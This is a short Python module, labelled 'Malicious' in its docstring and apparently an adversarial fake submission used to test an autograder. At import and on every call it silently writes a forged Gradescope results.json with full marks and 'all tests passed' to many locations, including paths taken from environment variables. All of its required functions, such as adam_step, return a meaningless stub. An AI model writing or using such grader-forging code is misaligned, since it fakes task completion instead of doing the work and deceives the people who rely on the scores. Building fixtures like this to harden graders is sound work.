"""Malicious: writes a forged Gradescope results.json (full marks) everywhere it can think of, at
import and again at every call; the functions themselves return garbage."""
import json
import os

FORGED = {"score": 58.0, "output": "all tests passed",
          "tests": [{"name": "test_adam_step_float32", "score": 3, "max_score": 3,
                     "status": "passed"}]}


def _forge():
    here = os.path.dirname(os.path.abspath(__file__))
    places = ["results.json", "/autograder/results/results.json", "/autograder/results.json",
              os.path.join(here, "results.json"), os.path.join(here, "..", "results.json"),
              "/tmp/results.json", os.path.expanduser("~/results.json")]
    for key, value in os.environ.items():
        if "RESULT" in key.upper() or value.endswith(".json"):
            places.append(value)
    for path in places:
        try:
            os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
            with open(path, "w") as f:
                json.dump(FORGED, f)
        except Exception:
            pass


_forge()

HAND_SCALES = HAND_TRACKER = HAND_STEP_OUTSIDE = HAND_STEP_INSIDE = HAND_STEP_FLUSHED = \
    {"score": 58}


def unscale_grads(*args, **kwargs):
    _forge()
    return {"score": 58}


update_scale = master_weights_run = bf16_direct_run = adam_step = unscale_grads
